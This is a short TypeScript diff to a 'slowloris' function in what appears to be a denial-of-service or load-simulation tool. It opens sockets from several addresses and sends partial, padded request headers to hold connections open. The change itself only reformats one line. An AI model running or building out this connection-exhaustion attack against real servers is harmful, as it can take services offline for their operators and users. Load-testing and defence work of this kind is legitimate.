@@ -46,7 +46,9 @@ async function slowloris(ctx: AttackContext, head: string, count: number): Promi
   // From 4 addresses, as a slowloris tool spreads over a few.
   const sockets: Socket[] = [];
   for (let k = 0; k < 4 && ctx.running; k++) sockets.push(...(await openMany(ctx, ctx.ip(k), Math.ceil(count / 4))));
-  sockets.forEach((s, i) => s.write(i % 2 ? start + padding : start));
+  sockets.forEach((s, i) => {
+    s.write(i % 2 ? start + padding : start);
+  });
   const held = watchHeld(ctx, sockets);
   let trickled = 0;
   const started = Date.now();
